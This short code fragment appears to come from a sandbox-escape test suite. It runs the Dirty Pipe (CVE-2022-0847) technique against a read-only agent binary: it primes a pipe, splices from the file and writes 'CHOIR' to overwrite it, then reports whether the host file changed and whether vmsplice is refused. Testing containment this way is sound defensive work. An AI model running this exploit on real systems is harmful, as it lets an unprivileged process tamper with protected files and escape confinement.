# Tries to write through a pipe into a file that can only be read (CVE-2022-0847)
AGENT = "/run/choiros/agent/bin/agent"
before = open(AGENT, "rb").read(64)
reader, writer = os.pipe()
room = fcntl.fcntl(writer, 1032)
os.write(writer, bytes(room))
while room > 0:
    room -= len(os.read(reader, room))
with open(AGENT, "rb") as file:
    offset = ctypes.c_longlong(1)
    call(275, 76, file.fileno(), ctypes.byref(offset), writer, 0, 1, 0)
    os.write(writer, b"CHOIR")
if open(AGENT, "rb").read(64) != before:
    escaped("a file of the host was changed") if not MACHINE else None
refused("vmsplice", call(278, 75, writer, 0, 0, 0), errno.EPERM)
